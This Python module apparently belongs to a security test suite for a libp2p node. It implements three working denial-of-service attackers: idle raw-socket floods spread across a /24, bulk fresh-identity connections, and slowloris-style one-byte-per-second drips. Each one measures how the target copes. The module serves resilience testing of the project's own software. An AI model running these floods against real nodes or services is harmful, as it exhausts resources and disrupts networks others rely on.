"""Flooding attackers: idle raw sockets, fresh identities, slow drips (see :mod:`tests.security.attacker`)."""

from __future__ import annotations

import argparse
import socket
from typing import Any

import trio
from libp2p import new_host
from libp2p.crypto.x25519 import create_new_key_pair as x25519_pair
from libp2p.peer.id import ID
from libp2p.peer.peerinfo import PeerInfo
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE_ID, Transport as NoiseTransport
from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX_ID, Yamux
from multiaddr import Multiaddr

from node.identity import Identity
from node.net.hello import AGENT, HELLO_PROTOCOL
from node.p2p.framing import read_msg, write_msg
from node.p2p.host import libp2p_keypair
from tests.security import payloads
from tests.security.common import TALLY, peer, raw_stream, reset, target_parts

# ---------------------------------------------------------------------------------------------------- idle

async def idle(a: argparse.Namespace) -> dict:
    """``--sockets`` raw TCP connections that never send a byte, from ``--src`` or spread over its /24 (``--spread``),
    each reopened as soon as the target closes it, until ``--seconds``: the target sees the whole flood all along.

    Reports, as measured on the sockets: connections made (``connects``) and failed, those the target closed
    (``closed_by_target``), the most held open at once (``open_peak``), the socket-seconds held (``held_s``) and
    their mean over the attack (``held_mean``: sockets open on average), and the source addresses that connected
    at least once (``sources_connected``; ``sockets`` and ``sources`` are what was asked)."""
    ip, port, _ = target_parts(a.target)
    net = a.src.rsplit(".", 1)[0]
    srcs = [f"{net}.{2 + i % 248}" for i in range(a.sockets)] if a.spread else [a.src] * a.sockets
    stats: dict[str, Any] = {"sockets": a.sockets, "sources": len(set(srcs)), "connects": 0, "failed": 0,
                             "closed_by_target": 0, "open_now": 0, "open_peak": 0, "held_s": 0.0}
    connected: set[str] = set()
    start = trio.current_time()
    deadline = start + a.seconds

    async def hold(src: str) -> None:
        while trio.current_time() < deadline:
            s = trio.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            try:
                await s.bind((src, 0))
                with trio.fail_after(2.0):
                    await s.connect((ip, port))
            except (OSError, trio.TooSlowError):
                s.close()
                stats["failed"] += 1
                await trio.sleep(0.1)
                continue
            stats["connects"] += 1
            connected.add(src)
            stats["open_now"] += 1
            stats["open_peak"] = max(stats["open_peak"], stats["open_now"])
            opened = trio.current_time()
            try:
                while await s.recv(1 << 16):  # what the target sends (its multistream header) is dropped
                    pass
                stats["closed_by_target"] += 1
            except OSError:
                stats["closed_by_target"] += 1
            finally:
                stats["open_now"] -= 1
                stats["held_s"] += min(trio.current_time(), deadline) - opened
                s.close()

    with trio.move_on_after(a.seconds):
        async with trio.open_nursery() as n:
            for src in srcs:
                n.start_soon(hold, src)
    stats["sources_connected"] = len(connected)
    stats["held_mean"] = round(stats["held_s"] / max(trio.current_time() - start, 1e-9), 1)
    stats["held_s"] = round(stats["held_s"], 1)
    return stats


# ---------------------------------------------------------------------------------------------------- identities

async def identities(a: argparse.Namespace) -> dict:
    """Fresh identities, each its own bare py-libp2p host, connecting and saying a valid hello; at most
    ``--hold`` kept connected at once (the oldest are closed for new ones).

    Reports identities made, those that connected and those whose hello the target answered ``ok``
    (``hello_ok``), failures (``failed``: before the hello was done; ``dropped``: after), and the most identities
    held at once after a completed hello (``held_peak``)."""

    pid = ID.from_base58(target_parts(a.target)[2])
    addr = Multiaddr(a.target.rsplit("/p2p/", 1)[0])
    hello = {"chain_id": a.chain, "genesis": a.genesis, "agent": AGENT, "addrs": []}
    stats = {"identities": 0, "connected": 0, "hello_ok": 0, "failed": 0, "dropped": 0, "held_now": 0,
             "held_peak": 0}
    deadline = trio.current_time() + a.seconds

    async def answer(stream) -> None:
        try:
            await read_msg(stream, 5.0, max_message=1 << 16)
            await write_msg(stream, {**hello, "status": "ok"}, timeout=5.0)
            await stream.close()
        except Exception:  # noqa: BLE001 - an attacker shrugs off however the target cuts it
            pass

    async def one(task_status=trio.TASK_STATUS_IGNORED) -> None:
        kp = libp2p_keypair(Identity.generate())
        h = new_host(key_pair=kp, sec_opt={NOISE_ID: NoiseTransport(kp, noise_privkey=x25519_pair().private_key)},
                     muxer_opt={YAMUX_ID: Yamux})
        h.set_stream_handler(HELLO_PROTOCOL, answer)
        stats["identities"] += 1
        cancel = trio.CancelScope()
        started = hello_done = False
        try:
            with cancel:
                async with h.run([Multiaddr(f"/ip4/{a.src}/tcp/0")]):
                    with trio.fail_after(15):
                        await h.connect(_info(pid, addr))
                        stats["connected"] += 1
                        s = await h.new_stream(pid, [HELLO_PROTOCOL])
                        await write_msg(s, hello, timeout=5.0)
                        r = await read_msg(s, 10.0, max_message=1 << 16)
                        if r.get("status") == "ok":
                            stats["hello_ok"] += 1
                            hello_done = True
                            stats["held_now"] += 1
                            stats["held_peak"] = max(stats["held_peak"], stats["held_now"])
                    task_status.started(cancel)
                    started = True
                    await trio.sleep_forever()
        except BaseException as e:  # counted; cancellation, KeyboardInterrupt and SystemExit re-raised
            if not started:
                task_status.started(cancel)
            leaves = e.exceptions if isinstance(e, BaseExceptionGroup) else (e,)
            if any(isinstance(x, (KeyboardInterrupt, SystemExit)) for x in leaves):
                raise
            if not all(isinstance(x, trio.Cancelled) for x in leaves):
                stats["failed" if not started else "dropped"] += 1
            elif trio.current_time() < deadline and started:
                stats["dropped"] += 1
            if isinstance(e, trio.Cancelled):
                raise
        finally:
            stats["held_now"] -= hello_done

    held: list[trio.CancelScope] = []

    async def starter() -> None:
        while trio.current_time() < deadline:
            with trio.move_on_after(max(0.1, deadline - trio.current_time())):
                held.append(await n.start(one))
            while len(held) > a.hold:
                held.pop(0).cancel()

    async with trio.open_nursery() as n:
        with trio.move_on_after(a.seconds):
            async with trio.open_nursery() as starters:
                for _ in range(a.parallel):
                    starters.start_soon(starter)
        stats["held_at_end"] = stats["held_now"]
        n.cancel_scope.cancel()
    del stats["held_now"]
    return stats


def _info(pid: ID, addr: Multiaddr):
    return PeerInfo(pid, [addr])


# ---------------------------------------------------------------------------------------------------- drip

async def drip(a: argparse.Namespace) -> dict:
    """One byte per second: a frame on every Tally protocol after the hello (``--streams`` each), and the
    multistream-select header on ``--sockets`` raw TCP connections (a handshake dripped).

    Reports streams opened and bytes dripped on them (``stream_bytes``: writes that returned), sockets connected
    and bytes dripped on them (``socket_bytes``), and the streams and sockets the target cut (``cut``)."""
    ip, port, _ = target_parts(a.target)
    stats = {"stream_bytes": 0, "streams": 0, "socket_bytes": 0, "sockets": 0, "cut": 0}
    deadline = trio.current_time() + a.seconds
    frame = payloads.frames(payloads.wide_array(4096))
    handshake = b"\x13/multistream/1.0.0\n\x07/noise\n"

    async def drip_stream(host, pid, proto) -> None:
        s = await raw_stream(host, pid, proto, timeout=5.0)
        if s is None:
            return
        stats["streams"] += 1
        try:
            for i in range(len(frame)):
                if trio.current_time() >= deadline:
                    break
                await s.write(frame[i:i + 1])
                stats["stream_bytes"] += 1
                await trio.sleep(1.0)
        except Exception:  # noqa: BLE001 - an attacker shrugs off however the target cuts it
            stats["cut"] += 1
        await reset(s)

    async def drip_socket() -> None:
        s = trio.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            await s.bind((a.src, 0))
            with trio.fail_after(5):
                await s.connect((ip, port))
            stats["sockets"] += 1
            for i in range(len(handshake)):
                if trio.current_time() >= deadline:
                    break
                await s.send(handshake[i:i + 1])
                stats["socket_bytes"] += 1
                await trio.sleep(1.0)
        except Exception:  # noqa: BLE001 - an attacker shrugs off however the target cuts it
            stats["cut"] += 1
        finally:
            s.close()

    async with peer(a, hello=True) as (host, pid), trio.open_nursery() as n:
        for proto in TALLY:
            for _ in range(a.streams):
                n.start_soon(drip_stream, host, pid, proto)
        for _ in range(a.sockets):
            n.start_soon(drip_socket)
    return stats
